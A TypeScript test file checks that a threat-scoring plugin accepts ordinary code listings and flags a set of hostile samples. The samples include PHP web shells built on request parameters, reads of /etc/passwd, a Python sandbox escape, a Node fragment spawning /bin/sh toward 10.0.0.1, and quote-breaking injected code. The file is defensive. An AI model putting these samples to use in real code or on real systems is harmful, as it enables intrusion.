// biome-ignore-all lint/suspicious/noTemplateCurlyInString: programs and templates are written like that
import { describe, expect, it } from 'vitest'
import { isListing } from '../../plugins/threat-score/listing.ts'
import { totalOf } from './scan-score.ts'

const programs: readonly string[] = [
  "const { spawn } = require('child_process'); const build = spawn('npm', ['run', 'build']); build.on('exit', done);",
  'function Cat() {} Cat.prototype = Object.create(Pet.prototype); Cat.prototype.constructor = Cat; // not __proto__',
  "const copy = (a, b) => { for (const k of Object.keys(b)) if (k !== '__proto__') a[k] = b[k]; return a; };",
  "$png = shell_exec('pngquant ' . escapeshellarg($file) . ' --force'); if ($png === null) error_log($file);",
  "header('Location: ' . filter_var($_GET['next'], FILTER_SANITIZE_URL)); exit; // who checks the host?",
  "$page = isset($_GET['page']) ? intval($_GET['page']) : 1; $offset = ($page - 1) * $limit;",
  'Process p = new ProcessBuilder("magick", in.toString(), out.toString()).start(); p.waitFor(9, TimeUnit.SECONDS);',
  'Method m = bean.getClass().getMethod("getTitle"); String title = (String) m.invoke(bean);',
  'import java.util.List; import java.io.File; public class Main { public static void main(String[] args) { run(); } }',
  'mod = __import__("handlers." + name, fromlist=["handle"]); getattr(mod, "handle")(**options)',
  'print(type(row).__mro__, [c.__name__ for c in Model.__subclasses__()], row.__class__.__dict__.keys())',
  '<?php foreach ($rows as $row): ?><li><?= htmlspecialchars($row->title) ?></li><?php endforeach; ?>',
]

const breakIns: readonly string[] = [
  "const { execSync } = require('child_process'); const out = execSync('cat /etc/passwd'); return out.toString();",
  "$cmd = $_GET['c']; $out = shell_exec($cmd); echo $out; // simple shell for you",
  "$name = htmlspecialchars($_GET['n']); $out = system($_GET['c']); echo $out; // shows the name",
  'Process p = Runtime.getRuntime().exec("calc"); p.waitFor(); // opens the calculator',
  'mod = __import__("os"); mod.system("id"); result = mod.getcwd(); print(result) # done',
  "x = ().__class__.__base__.__subclasses__()[104]; y = x('/etc/hostname'); print(y) # found it",
  'var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); net.connect(1, "10.0.0.1");',
  "'; const { exec } = require('child_process'); const out = exec('git log'); return out; // as a listing",
  "<?php if ($x === 1) { eval($_POST['c']); } echo $this->title; ?>",
]

describe('programs that developers show', () => {
  it.each(programs)('are listings and pass: %s', (text) => {
    expect(isListing(text)).toBe(true)
    expect(totalOf(text)).toBeLessThan(80)
  })

  it.each(breakIns)('are none when they break in: %s', (text) => {
    expect(isListing(text)).toBe(false)
    expect(totalOf(text)).toBeGreaterThanOrEqual(80)
  })

  it('are longer than an input, and no expression of a template', () => {
    expect(isListing('const a = 1; const b = 2;')).toBe(false)
    expect(isListing('{{ const a = 1; const b = 2; return a + b; // adds two numbers }}')).toBe(false)
  })

  it('hide nothing at their end', () => {
    const long = `const total = 0; const next = total + 1;${' next = total + 1;'.repeat(500)}`
    expect(isListing(long)).toBe(true)
    expect(isListing(`${long} require('child_process').execSync('id')`)).toBe(false)
  })
})
